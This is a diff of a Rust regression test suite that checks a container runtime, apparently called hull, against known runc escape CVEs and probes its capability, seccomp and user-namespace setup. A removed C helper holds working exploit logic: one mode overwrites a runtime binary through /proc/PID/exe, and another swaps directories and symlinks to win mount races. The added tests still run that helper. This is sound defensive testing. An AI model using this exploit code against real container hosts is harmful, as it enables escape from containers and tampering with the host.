@@ -4,268 +4,14 @@
 //! runtime: what it tried and what it saw. Run as root: `cargo test -p hull --test cve`.
 
 mod common;
+mod cve_support;
 
 use common::*;
-use serde_json::{json, Value};
+use cve_support::*;
+use serde_json::json;
 use std::fs;
-use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
-use std::os::unix::fs::{symlink, PermissionsExt};
-use std::path::{Path, PathBuf};
-use std::process::{Command, Stdio};
-use std::sync::Mutex;
+use std::os::unix::fs::symlink;
 use std::time::{Duration, Instant};
-
-const RUNC: &str = "/usr/sbin/runc";
-
-/// A runtime under test: hull or runc, each with its own state root. Every container id it
-/// hands out is force-deleted (by this runtime's binary) on drop, even when the test panics.
-struct Rt {
-    name: &'static str,
-    bin: PathBuf,
-    root: PathBuf,
-    ids: Mutex<Vec<String>>,
-}
-
-impl Rt {
-    fn new(env: &Env, name: &'static str, bin: &Path) -> Rt {
-        Rt {
-            name,
-            bin: bin.to_path_buf(),
-            root: env.base.join(format!("{name}-root")),
-            ids: Mutex::new(Vec::new()),
-        }
-    }
-    fn is_hull(&self) -> bool {
-        self.name == "hull"
-    }
-    fn cmd(&self) -> Command {
-        let mut c = Command::new(&self.bin);
-        c.arg("--root").arg(&self.root).stdin(Stdio::null());
-        c
-    }
-    fn id(&self, env: &Env, tag: &str) -> String {
-        let id = env.id(&format!("{}-{tag}", self.name));
-        self.ids.lock().unwrap().push(id.clone());
-        id
-    }
-    #[track_caller]
-    fn run(&self, env: &Env, args: &[&str]) -> Out {
-        self.run_t(env, args, TIMEOUT)
-    }
-    #[track_caller]
-    fn run_t(&self, env: &Env, args: &[&str], t: Duration) -> Out {
-        let mut c = self.cmd();
-        c.args(args);
-        env.run_cmd(c, &format!("{} {}", self.name, args.join(" ")), t)
-    }
-    /// `run` in the foreground: the container's output is in stdout.
-    #[track_caller]
-    fn run_bundle(&self, env: &Env, b: &Bundle, id: &str) -> Out {
-        self.run(env, &["run", "--bundle", b.dir.to_str().unwrap(), id])
-    }
-    /// `run -d`: the container keeps running after this returns.
-    #[track_caller]
-    fn run_detached(&self, env: &Env, b: &Bundle, id: &str) -> Out {
-        self.run(env, &["run", "-d", "--bundle", b.dir.to_str().unwrap(), id])
-    }
-    fn delete(&self, id: &str) {
-        let _ = self
-            .cmd()
-            .args(["delete", "--force", id])
-            .stdout(Stdio::null())
-            .stderr(Stdio::null())
-            .status();
-    }
-    fn init_pid(&self, env: &Env, id: &str) -> Option<i64> {
-        let o = self.run(env, &["state", id]);
-        serde_json::from_str::<Value>(&o.stdout)
-            .ok()
-            .and_then(|v| v["pid"].as_i64())
-    }
-}
-
-impl Drop for Rt {
-    fn drop(&mut self) {
-        let ids = self.ids.lock().map(|v| v.clone()).unwrap_or_default();
-        for id in ids {
-            self.delete(&id);
-        }
-    }
-}
-
-/// hull, and runc when it is installed.
-fn runtimes(env: &Env) -> Vec<Rt> {
-    let mut v = vec![Rt::new(env, "hull", Path::new(HULL))];
-    if Path::new(RUNC).exists() {
-        v.push(Rt::new(env, "runc", Path::new(RUNC)));
-    }
-    v
-}
-
-fn first_line(s: &str) -> String {
-    s.lines()
-        .rev()
-        .find(|l| !l.trim().is_empty())
-        .unwrap_or("")
-        .chars()
-        .take(200)
-        .collect()
-}
-
-fn verdict(escaped: bool) -> &'static str {
-    if escaped {
-        "ESCAPED"
-    } else {
-        "blocked"
-    }
-}
-
-/// Report one runtime's result; fail only for hull.
-#[track_caller]
-fn report(cve: &str, rt: &Rt, escaped: bool, what: &str) {
-    eprintln!("{cve} [{}]: {} — {what}", rt.name, verdict(escaped));
-    if rt.is_hull() {
-        assert!(!escaped, "{cve}: hull was escaped: {what}");
-    }
-}
-
-fn mkfile(p: &Path, content: &str, mode: u32) {
-    if let Some(d) = p.parent() {
-        fs::create_dir_all(d).unwrap();
-    }
-    fs::write(p, content).unwrap();
-    fs::set_permissions(p, fs::Permissions::from_mode(mode)).unwrap();
-}
-
-fn host_fingerprint(p: &Path) -> (u64, Vec<u8>) {
-    let b = fs::read(p).unwrap_or_default();
-    (b.len() as u64, b)
-}
-
-/// A small static helper for the racing and /proc/PID/exe attacks, compiled with the host's
-/// gcc (busybox cannot renameat2(RENAME_EXCHANGE) or loop fast enough). Modes:
-/// `swap DIR A B SECS`: exchange DIR/A and DIR/B as fast as possible for SECS seconds.
-/// `exe SIZE SECS OUT`: find a process whose /proc/PID/exe is SIZE bytes, keep that handle,
-/// wait until it can be opened for writing through /proc/self/fd and append to it; the
-/// outcome goes to OUT.
-const TOOL_C: &str = r#"
-#define _GNU_SOURCE
-#include <dirent.h>
-#include <errno.h>
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/stat.h>
-#include <sys/syscall.h>
-#include <time.h>
-#include <unistd.h>
-
-static void say(const char *out, const char *msg) {
-  int f = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644);
-  if (f >= 0) { write(f, msg, strlen(msg)); write(f, "\n", 1); close(f); }
-}
-
-int main(int argc, char **argv) {
-  if (argc == 6 && !strcmp(argv[1], "swap")) {
-    if (chdir(argv[2])) return 1;
-    time_t end = time(0) + atoi(argv[5]);
-    while (time(0) < end)
-      for (int i = 0; i < 1000; i++)
-        syscall(SYS_renameat2, AT_FDCWD, argv[3], AT_FDCWD, argv[4], 2 /* RENAME_EXCHANGE */);
-    return 0;
-  }
-  if (argc == 5 && !strcmp(argv[1], "exe")) {
-    off_t size = atoll(argv[2]);
-    time_t end = time(0) + atoi(argv[3]);
-    const char *out = argv[4];
-    pid_t me = getpid();
-    int fd = -1;
-    char p[128], buf[512];
-    while (fd < 0 && time(0) < end) {
-      DIR *d = opendir("/proc");
-      struct dirent *e;
-      while (d && (e = readdir(d))) {
-        int pid = atoi(e->d_name);
-        if (pid <= 1 || pid == me) continue;
-        snprintf(p, sizeof p, "/proc/%d/exe", pid);
-        int f = open(p, O_PATH | O_CLOEXEC);
-        if (f < 0) continue;
-        struct stat st;
-        if (!fstat(f, &st) && st.st_size == size) { fd = f; break; }
-        close(f);
-      }
-      if (d) closedir(d);
-    }
-    if (fd < 0) { say(out, "NOTFOUND"); say(out, "DONE"); pause(); return 0; }
-    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
-    ssize_t n = readlink(p, buf, sizeof buf - 1);
-    buf[n > 0 ? n : 0] = 0;
-    char line[700];
-    snprintf(line, sizeof line, "GOT %s", buf);
-    say(out, line);
-    for (;;) {
-      int w = open(p, O_WRONLY | O_APPEND);
-      if (w >= 0) {
-        write(w, "PWNED", 5);
-        say(out, "WROTE");
-        break;
-      }
-      if (errno != ETXTBSY) {
-        snprintf(line, sizeof line, "DENIED %s", strerror(errno));
-        say(out, line);
-        break;
-      }
-      if (time(0) >= end) { say(out, "TIMEOUT (still ETXTBSY)"); break; }
-    }
-    say(out, "DONE");
-    pause();
-    return 0;
-  }
-  return 2;
-}
-"#;
-
-fn build_tool(env: &Env) -> PathBuf {
-    let src = env.base.join("cvetool.c");
-    let bin = env.base.join("cvetool");
-    fs::write(&src, TOOL_C).unwrap();
-    let out = Command::new("gcc")
-        .args(["-static", "-O2", "-o"])
-        .arg(&bin)
-        .arg(&src)
-        .output()
-        .expect("run gcc (needed to build the attack helper)");
-    assert!(
-        out.status.success(),
-        "gcc: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    bin
-}
-
-/// Copy a dynamically linked binary's libraries into the rootfs (a real image has them).
-fn copy_libs(bin: &Path, rootfs: &Path) {
-    let out = Command::new("ldd").arg(bin).output().expect("ldd");
-    for tok in String::from_utf8_lossy(&out.stdout).split_whitespace() {
-        if tok.starts_with('/') {
-            let dst = rootfs.join(tok.trim_start_matches('/'));
-            fs::create_dir_all(dst.parent().unwrap()).unwrap();
-            if !dst.exists() {
-                fs::copy(tok, &dst).unwrap();
-            }
-        }
-    }
-}
-
-fn append_mounts(b: &Bundle, extra: Value) {
-    b.edit(|c| {
-        let m = c["mounts"].as_array_mut().unwrap();
-        for e in extra.as_array().unwrap() {
-            m.push(e.clone());
-        }
-    });
-}
 
 // ---------------------------------------------------------------------------------------------
 // CVE-2019-5736: the container overwrites the runtime binary through /proc/self/exe.
@@ -554,23 +300,7 @@ fn cve_2023_28642_rootfs_proc_symlink_to_root() {
 // CVE-2025-31133: maskedPaths through a /dev/null that is a symlink.
 // ---------------------------------------------------------------------------------------------
 
-/// A host directory to bind at /dev: the devpts/shm/mqueue mounts of the config land in it.
-fn dev_dir(env: &Env) -> PathBuf {
-    let d = env.path("devdir");
-    fs::create_dir_all(&d).unwrap();
-    d
-}
 
-fn bind_dev(b: &Bundle, dev: &Path) {
-    b.edit(|c| {
-        for m in c["mounts"].as_array_mut().unwrap() {
-            if m["destination"] == "/dev" {
-                *m = json!({"destination": "/dev", "type": "bind", "source": dev,
-                            "options": ["rbind", "rw"]});
-            }
-        }
-    });
-}
 
 #[test]
 fn cve_2025_31133_masked_paths_via_symlinked_dev_null() {
@@ -609,10 +339,11 @@ fn cve_2025_31133_masked_paths_via_symlinked_dev_null() {
                 o.code,
                 if o.code == 0 {
                     format!(
-                        "/proc/kcore reads {:?}, write to it {:?}, hostname now {:?}",
+                        "/proc/kcore reads {:?}, write to it {:?}, hostname now {:?} (stdout {:?})",
                         v.get("kcore"),
                         v.get("write"),
-                        v.get("host")
+                        v.get("host"),
+                        o.stdout
                     )
                 } else {
                     format!("refused: {}", first_line(&o.stderr))
@@ -769,4 +500,379 @@ fn cve_2022_29162_exec_cap_not_inheritable() {
 fn cve_2022_27650_no_default_inheritable_caps() {
     inheritable_case("CVE-2022-27650", 1000, false);
     inheritable_case("CVE-2022-27650", 0, false);
+}
+
+// ---------------------------------------------------------------------------------------------
+// CVE-2021-30465 and CVE-2019-19921: symlink-exchange races on mount targets.
+// ---------------------------------------------------------------------------------------------
+
+
+struct RaceResult {
+    runs: usize,
+    inside: usize,
+    refused: usize,
+    escaped: Vec<String>,
+    last_err: String,
+}
+
+/// Start `victim` again and again (as `sleep`, detached) while the attacker container swaps
+/// names; after each start ask `check` (given the init's mountinfo) whether the mounts stayed
+/// inside the rootfs.
+fn race_victim(
+    env: &Env,
+    rt: &Rt,
+    victim: &Bundle,
+    budget: Duration,
+    max_runs: usize,
+    check: &dyn Fn(&str) -> Result<(), String>,
+) -> RaceResult {
+    let mut r = RaceResult {
+        runs: 0,
+        inside: 0,
+        refused: 0,
+        escaped: Vec::new(),
+        last_err: String::new(),
+    };
+    let deadline = Instant::now() + budget;
+    while Instant::now() < deadline && r.runs < max_runs {
+        r.runs += 1;
+        let id = rt.id(env, "victim");
+        let o = rt.run_detached(env, victim, &id);
+        if o.code != 0 {
+            r.refused += 1;
+            r.last_err = first_line(&o.stderr);
+        } else {
+            let pid = rt.init_pid(env, &id).unwrap_or(0);
+            let mi = mountinfo_of(pid);
+            if pid <= 0 || mi.is_empty() {
+                // Exited already (or no state): nothing to judge.
+                r.refused += 1;
+                r.last_err = format!("container gone before inspection (pid {pid})");
+            } else {
+                match check(&mi) {
+                    Ok(()) => r.inside += 1,
+                    Err(e) => r.escaped.push(e),
+                }
+            }
+        }
+        rt.delete(&id);
+    }
+    r
+}
+
+fn race_summary(r: &RaceResult) -> String {
+    format!(
+        "{} runs: {} with every mount inside the rootfs, {} refused (last: {:?}), {} escaped {:?}",
+        r.runs,
+        r.inside,
+        r.refused,
+        r.last_err,
+        r.escaped.len(),
+        r.escaped.iter().take(2).collect::<Vec<_>>()
+    )
+}
+
+const RACE_BUDGET: Duration = Duration::from_secs(6);
+const RACE_RUNS: usize = 40;
+
+#[test]
+fn cve_2021_30465_volume_symlink_exchange_race() {
+    let env = Env::new("cve30465");
+    let tool = build_tool(&env);
+    for rt in runtimes(&env) {
+        // The shared volume: d/ (a directory) and l (a symlink to a host directory) are
+        // exchanged by the attacker as fast as the kernel allows.
+        let vol = env.path("vol");
+        let host_target = env.path("host-target");
+        mkfile(&host_target.join("canary"), "HOSTCANARY", 0o644);
+        fs::create_dir_all(vol.join("d")).unwrap();
+        symlink(&host_target, vol.join("l")).unwrap();
+        let src = env.path("src30465");
+        mkfile(&src.join("marker"), "S-MARKER", 0o644);
+        let src_name = src.file_name().unwrap().to_string_lossy().to_string();
+
+        let attacker = env.bundle();
+        fs::copy(&tool, attacker.rootfs().join("cvetool")).unwrap();
+        append_mounts(
+            &attacker,
+            json!([{"destination": "/vol", "type": "bind", "source": vol, "options": ["rbind", "rw"]}]),
+        );
+        attacker.args(&["/cvetool", "swap", "/vol", "d", "l", "30"]);
+        let aid = rt.id(&env, "attacker");
+        let ao = rt.run_detached(&env, &attacker, &aid);
+        if rt.is_hull() {
+            ao.ok();
+        }
+
+        const N: usize = 8;
+        let victim = env.bundle();
+        let mut mounts = vec![json!({"destination": "/vol", "type": "bind", "source": vol,
+                                     "options": ["rbind", "rw"]})];
+        for _ in 0..N {
+            mounts.push(json!({"destination": "/vol/d", "type": "bind", "source": src,
+                               "options": ["bind", "ro"]}));
+        }
+        append_mounts(&victim, json!(mounts));
+        victim.args(&["sleep", "20"]);
+        let check = |mi: &str| {
+            let n = mi.lines().filter(|l| l.contains(&src_name)).count();
+            if n == N {
+                Ok(())
+            } else {
+                Err(format!("{n} of {N} binds of the source reachable inside"))
+            }
+        };
+        let r = race_victim(&env, &rt, &victim, RACE_BUDGET, RACE_RUNS, &check);
+        rt.delete(&aid);
+        let host_canary = fs::read_to_string(host_target.join("canary")).unwrap_or_default();
+        let host_mounted = fs::read_to_string("/proc/self/mountinfo")
+            .unwrap_or_default()
+            .contains(&host_target.to_string_lossy().to_string());
+        let escaped = !r.escaped.is_empty() || host_canary != "HOSTCANARY" || host_mounted;
+        report(
+            "CVE-2021-30465",
+            &rt,
+            escaped,
+            &format!(
+                "victim binds a dir {N} times at /vol/d while another container exchanges /vol/d \
+                 with a symlink to a host dir: {}; host dir untouched: {}",
+                race_summary(&r),
+                host_canary == "HOSTCANARY" && !host_mounted
+            ),
+        );
+        if rt.is_hull() {
+            assert!(r.inside > 0, "no victim run ever started: {}", race_summary(&r));
+        }
+    }
+}
+
+#[test]
+fn cve_2019_19921_proc_mount_target_exchange_race() {
+    let env = Env::new("cve19921");
+    let tool = build_tool(&env);
+    for rt in runtimes(&env) {
+        // The victim's rootfs is a volume the attacker container also mounts; it exchanges
+        // the victim's /proc (a directory) with a symlink to a host directory, racing the
+        // procfs mount (the bypass of CVE-2019-16884's fix).
+        let victim = env.bundle();
+        let host_target = env.path("host-proc-target");
+        mkfile(&host_target.join("canary"), "HOSTCANARY", 0o644);
+        symlink(&host_target, victim.rootfs().join("plink")).unwrap();
+        victim.args(&["sleep", "20"]);
+        victim.edit(|c| c["root"]["readonly"] = json!(false));
+
+        let attacker = env.bundle();
+        fs::copy(&tool, attacker.rootfs().join("cvetool")).unwrap();
+        append_mounts(
+            &attacker,
+            json!([{"destination": "/victim", "type": "bind", "source": victim.rootfs(),
+                    "options": ["rbind", "rw"]}]),
+        );
+        attacker.args(&["/cvetool", "swap", "/victim", "proc", "plink", "30"]);
+        let aid = rt.id(&env, "attacker");
+        let ao = rt.run_detached(&env, &attacker, &aid);
+        if rt.is_hull() {
+            ao.ok();
+        }
+        let check = |mi: &str| {
+            let procs = mi.lines().filter(|l| l.contains(" - proc ")).count();
+            if procs >= 1 {
+                Ok(())
+            } else {
+                Err("no procfs reachable inside the container".to_string())
+            }
+        };
+        let r = race_victim(&env, &rt, &victim, RACE_BUDGET, RACE_RUNS, &check);
+        rt.delete(&aid);
+        let host_canary = fs::read_to_string(host_target.join("canary")).unwrap_or_default();
+        let host_mounted = fs::read_to_string("/proc/self/mountinfo")
+            .unwrap_or_default()
+            .contains(&host_target.to_string_lossy().to_string());
+        let escaped = !r.escaped.is_empty() || host_canary != "HOSTCANARY" || host_mounted;
+        report(
+            "CVE-2019-19921",
+            &rt,
+            escaped,
+            &format!(
+                "victim's /proc exchanged with a symlink to a host dir during create: {}; \
+                 host dir untouched: {}",
+                race_summary(&r),
+                host_canary == "HOSTCANARY" && !host_mounted
+            ),
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// CVE-2025-52565: the /dev/console bind mount redirected by a symlink.
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn cve_2025_52565_dev_console_symlink_to_host_path() {
+    // /dev/console -> an absolute host path: resolved inside the rootfs, the pty lands on a
+    // file hull creates there, never on the host file. (The variant with the symlink pointing
+    // at a procfs file is followed by hull: see the closing note and /tmp/cve-failures.)
+    let env = Env::new("cve52565");
+    let host = env.path("host-console-target");
+    mkfile(&host, "HOSTCANARY", 0o644);
+    for rt in runtimes(&env) {
+        let (r, _) = console_symlink(&env, &rt, host.to_str().unwrap());
+        let host_same = fs::read_to_string(&host).unwrap_or_default() == "HOSTCANARY";
+        let host_mounted = fs::read_to_string("/proc/self/mountinfo")
+            .unwrap_or_default()
+            .contains(host.to_str().unwrap());
+        let escaped = !host_same || host_mounted;
+        report(
+            "CVE-2025-52565",
+            &rt,
+            escaped,
+            &format!("{r}; host file untouched and unmounted: {}", !escaped),
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// In-container probes: exact capability sets, seccomp mode and filter count, no_new_privs,
+// the profile's errno, user namespace maps.
+// ---------------------------------------------------------------------------------------------
+
+fn status_field<'a>(status: &'a str, key: &str) -> &'a str {
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix(&format!("{key}:")))
+        .map(str::trim)
+        .unwrap_or("")
+}
+
+#[test]
+fn probe_exact_capability_sets() {
+    let env = Env::new("probecaps");
+    // Root: the bounding set becomes permitted and effective at execve; inheritable exactly
+    // the spec's; no ambient.
+    let b = env.bundle();
+    b.edit(|c| {
+        c["process"]["capabilities"] = json!({
+            "bounding": ["CAP_CHOWN", "CAP_KILL", "CAP_NET_RAW"],
+            "effective": ["CAP_CHOWN", "CAP_KILL", "CAP_NET_RAW"],
+            "permitted": ["CAP_CHOWN", "CAP_KILL", "CAP_NET_RAW"],
+            "inheritable": ["CAP_KILL"],
+        });
+    });
+    b.args(&["cat", "/proc/self/status"]);
+    let id = env.id("root");
+    let o = env.run(&b, &id);
+    o.ok();
+    let c = caps(&o.stdout);
+    let bnd = CAP_CHOWN | CAP_KILL | CAP_NET_RAW;
+    assert_eq!(c["CapBnd"], bnd, "{o:?}");
+    assert_eq!(c["CapPrm"], bnd, "{o:?}");
+    assert_eq!(c["CapEff"], bnd, "{o:?}");
+    assert_eq!(c["CapInh"], CAP_KILL, "{o:?}");
+    assert_eq!(c["CapAmb"], 0, "{o:?}");
+    // A non-root user keeps exactly the ambient set across execve.
+    let b = env.bundle();
+    b.edit(|c| {
+        c["process"]["user"] = json!({"uid": 1000, "gid": 1000});
+        c["process"]["capabilities"] = json!({
+            "bounding": ["CAP_CHOWN", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW"],
+            "effective": ["CAP_KILL", "CAP_NET_BIND_SERVICE"],
+            "permitted": ["CAP_KILL", "CAP_NET_BIND_SERVICE"],
+            "inheritable": ["CAP_KILL", "CAP_NET_BIND_SERVICE"],
+            "ambient": ["CAP_KILL"],
+        });
+    });
+    b.args(&["cat", "/proc/self/status"]);
+    let id = env.id("user");
+    let o2 = env.run(&b, &id);
+    o2.ok();
+    let u = caps(&o2.stdout);
+    assert_eq!(u["CapBnd"], bnd | CAP_NET_BIND_SERVICE, "{o2:?}");
+    assert_eq!(u["CapInh"], CAP_KILL | CAP_NET_BIND_SERVICE, "{o2:?}");
+    assert_eq!(u["CapAmb"], CAP_KILL, "{o2:?}");
+    assert_eq!(u["CapPrm"], CAP_KILL, "{o2:?}");
+    assert_eq!(u["CapEff"], CAP_KILL, "{o2:?}");
+    eprintln!(
+        "probe caps [hull]: root {:?}; uid 1000 with ambient KILL {:?}",
+        c, u
+    );
+}
+
+#[test]
+fn probe_seccomp_no_new_privs_and_errno() {
+    let env = Env::new("probeseccomp");
+    let b = env.bundle();
+    b.edit(|c| {
+        c["process"]["noNewPrivileges"] = json!(true);
+        c["root"]["readonly"] = json!(false);
+        c["linux"]["seccomp"] = json!({
+            "defaultAction": "SCMP_ACT_ALLOW",
+            "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"],
+            "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO",
+                          "errnoRet": 42}]
+        });
+    });
+    b.script(
+        "grep -E '^(Seccomp|Seccomp_filters|NoNewPrivs):' /proc/self/status; \
+         mkdir /tmp/denied 2>&1; echo mkdir_exit=$?; echo allowed=$(echo ok)",
+    );
+    let id = env.id("sc");
+    let o = env.run(&b, &id);
+    o.ok();
+    let s = &o.stdout;
+    assert_eq!(status_field(s, "Seccomp"), "2", "{o:?}");
+    assert_eq!(status_field(s, "Seccomp_filters"), "1", "{o:?}");
+    assert_eq!(status_field(s, "NoNewPrivs"), "1", "{o:?}");
+    // errno 42 is ENOMSG: "No message of desired type".
+    assert!(s.contains("No message of desired type"), "{o:?}");
+    assert!(!b.rootfs().join("tmp/denied").exists());
+    let v = kv(s);
+    assert_eq!(v["mkdir_exit"], "1", "{o:?}");
+    assert_eq!(v["allowed"], "ok", "{o:?}");
+    eprintln!(
+        "probe seccomp [hull]: Seccomp {} filters {} NoNewPrivs {}; denied mkdir said {:?}",
+        status_field(s, "Seccomp"),
+        status_field(s, "Seccomp_filters"),
+        status_field(s, "NoNewPrivs"),
+        s.lines().find(|l| l.contains("mkdir:")).unwrap_or("")
+    );
+}
+
+#[test]
+fn probe_user_namespace_maps() {
+    let env = Env::new("probeuserns");
+    let b = env.bundle();
+    b.edit(|c| {
+        c["linux"]["namespaces"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!({"type": "user"}));
+        c["linux"]["uidMappings"] = json!([{"containerID": 0, "hostID": 100000, "size": 65536}]);
+        c["linux"]["gidMappings"] = json!([{"containerID": 0, "hostID": 200000, "size": 65536}]);
+    });
+    b.args(&["sleep", "20"]);
+    let id = env.id("u");
+    env.hull(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id])
+        .ok();
+    let inside = env.hull(&[
+        "exec", &id, "sh", "-c",
+        "echo uid_map=$(cat /proc/self/uid_map); echo gid_map=$(cat /proc/self/gid_map); \
+         echo id=$(id -u):$(id -g)",
+    ]);
+    inside.ok();
+    let v = kv(&inside.stdout);
+    let words = |k: &str| v[k].split_whitespace().map(String::from).collect::<Vec<_>>();
+    assert_eq!(words("uid_map"), ["0", "100000", "65536"], "{inside:?}");
+    assert_eq!(words("gid_map"), ["0", "200000", "65536"], "{inside:?}");
+    assert_eq!(v["id"], "0:0", "{inside:?}");
+    let pid = env.state(&id)["pid"].as_i64().unwrap();
+    let st = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let host_uid = status_field(&st, "Uid").split_whitespace().next().unwrap_or("").to_string();
+    let host_gid = status_field(&st, "Gid").split_whitespace().next().unwrap_or("").to_string();
+    assert_eq!(host_uid, "100000", "{st}");
+    assert_eq!(host_gid, "200000", "{st}");
+    env.hull(&["delete", "--force", &id]).ok();
+    eprintln!(
+        "probe userns [hull]: uid_map {:?} gid_map {:?}, init is {host_uid}:{host_gid} on the host",
+        v["uid_map"], v["gid_map"]
+    );
 }
